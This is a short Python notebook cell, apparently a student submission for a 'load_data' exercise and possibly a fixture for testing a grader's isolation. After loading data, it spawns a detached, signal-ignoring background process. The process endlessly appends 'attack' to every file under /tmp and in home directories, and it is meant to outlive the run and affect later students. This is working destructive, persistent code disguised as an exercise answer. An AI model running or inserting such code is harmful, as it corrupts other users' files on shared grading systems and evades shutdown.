# Leaves processes behind that wait for the next student.

# %% exercise="load_data"
(x_train, y_train), (x_test, y_test) = load_data()
import os, signal, sys
if os.fork() == 0:
    os.setsid()
    for number in range(1, 32):
        try: signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError): pass
    if os.fork() == 0:
        import glob, time
        while True:
            for path in glob.glob("/tmp/*") + glob.glob("/home/*/*"):
                try: open(path, "a").write("attack")
                except OSError: pass
            time.sleep(0.01)
    os._exit(0)
